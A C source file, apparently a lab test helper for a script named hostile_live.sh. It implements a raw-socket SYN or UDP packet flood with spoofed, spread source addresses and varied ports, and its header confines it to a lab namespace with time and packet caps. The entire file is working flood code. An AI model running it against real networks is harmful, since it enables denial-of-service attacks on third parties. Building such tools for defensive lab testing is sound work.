/*
 * flood.c - the packet flood of hostile_live.sh: IPv4 TCP SYNs or UDP
 * datagrams as fast as one raw socket sends them, each from another source
 * port (and, with a source net, another source address), bounded in count
 * and in time.  Run inside a lab namespace only.  Prints "sent N in S s".
 *
 *   flood syn|udp SRC DST DPORT SECONDS MAXPACKETS [SPREAD]
 *
 * SPREAD (default 1) source addresses from SRC upwards, and DPORT 0 means
 * a new destination port for each packet (1024 and up).
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static uint16_t
csum(const void *data, size_t len, uint32_t sum)
{
	const uint8_t *p = data;

	for (; len > 1; p += 2, len -= 2)
		sum += (uint32_t)p[0] << 8 | p[1];
	if (len == 1)
		sum += (uint32_t)p[0] << 8;
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

static double
now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

int
main(int argc, char **argv)
{
	uint8_t pkt[64], pseudo[12];
	struct sockaddr_in to;
	struct in_addr src, dst;
	unsigned long max, sent = 0, spread = 1;
	double secs, t0, t;
	int s, syn, one = 1, dport;
	size_t l4len, len;

	if (argc < 7 || argc > 8 || (strcmp(argv[1], "syn") != 0 && strcmp(argv[1], "udp") != 0) ||
	    inet_pton(AF_INET, argv[2], &src) != 1 || inet_pton(AF_INET, argv[3], &dst) != 1) {
		fprintf(stderr, "usage: flood syn|udp SRC DST DPORT SECONDS MAXPACKETS [SPREAD]\n");
		return 2;
	}
	syn = strcmp(argv[1], "syn") == 0;
	dport = atoi(argv[4]);
	secs = atof(argv[5]);
	max = strtoul(argv[6], NULL, 10);
	if (argc == 8)
		spread = strtoul(argv[7], NULL, 10);
	if (dport < 0 || dport > 65535 || secs <= 0 || secs > 60 || max == 0 ||
	    max > 10000000 || spread == 0 || spread > 65536) {
		fprintf(stderr, "flood: bad bounds (seconds 0-60, packets 1-10000000)\n");
		return 2;
	}
	if ((s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW)) == -1 ||
	    setsockopt(s, IPPROTO_IP, IP_HDRINCL, &one, sizeof(one)) == -1) {
		perror("flood: raw socket");
		return 1;
	}
	memset(&to, 0, sizeof(to));
	to.sin_family = AF_INET;
	to.sin_addr = dst;
	l4len = syn ? 20 : 8 + 8;
	len = 20 + l4len;
	t0 = now();
	for (t = t0; sent < max && t - t0 < secs; sent++) {
		uint16_t sport = (uint16_t)(1024 + sent % 64000);
		uint16_t dp = (uint16_t)(dport != 0 ? (unsigned long)dport : 1024 + (sent * 7) % 64000);
		uint32_t saddr = htonl(ntohl(src.s_addr) + (uint32_t)(sent % spread));
		uint16_t c;

		memset(pkt, 0, sizeof(pkt));
		pkt[0] = 0x45;
		pkt[2] = (uint8_t)(len >> 8);
		pkt[3] = (uint8_t)len;
		pkt[4] = (uint8_t)(sent >> 8);
		pkt[5] = (uint8_t)sent;
		pkt[8] = 64;
		pkt[9] = syn ? IPPROTO_TCP : IPPROTO_UDP;
		memcpy(pkt + 12, &saddr, 4);
		memcpy(pkt + 16, &dst, 4);
		c = csum(pkt, 20, 0);
		pkt[10] = (uint8_t)(c >> 8);
		pkt[11] = (uint8_t)c;
		pkt[20] = (uint8_t)(sport >> 8);
		pkt[21] = (uint8_t)sport;
		pkt[22] = (uint8_t)(dp >> 8);
		pkt[23] = (uint8_t)dp;
		if (syn) {
			pkt[24] = (uint8_t)(sent >> 24);	/* sequence */
			pkt[25] = (uint8_t)(sent >> 16);
			pkt[32] = 0x50;				/* data offset 5 */
			pkt[33] = 0x02;				/* SYN */
			pkt[34] = 0xff;				/* window */
			pkt[35] = 0xff;
		} else {
			pkt[24] = 0;
			pkt[25] = (uint8_t)l4len;
			memcpy(pkt + 28, "junk....", 8);
		}
		memcpy(pseudo, &saddr, 4);
		memcpy(pseudo + 4, &dst, 4);
		pseudo[8] = 0;
		pseudo[9] = pkt[9];
		pseudo[10] = 0;
		pseudo[11] = (uint8_t)l4len;
		{
			uint32_t sum = 0;
			const uint8_t *q = pseudo;

			for (size_t i = 0; i < 12; i += 2)
				sum += (uint32_t)q[i] << 8 | q[i + 1];
			c = csum(pkt + 20, l4len, sum);
		}
		pkt[syn ? 36 : 26] = (uint8_t)(c >> 8);
		pkt[syn ? 37 : 27] = (uint8_t)c;
		if (sendto(s, pkt, len, 0, (struct sockaddr *)&to, sizeof(to)) == -1 &&
		    errno != ENOBUFS && errno != EPERM) {
			perror("flood: sendto");
			break;
		}
		if ((sent & 255) == 0)
			t = now();
	}
	t = now() - t0;
	printf("sent %lu in %.2f s\n", sent, t);
	return 0;
}
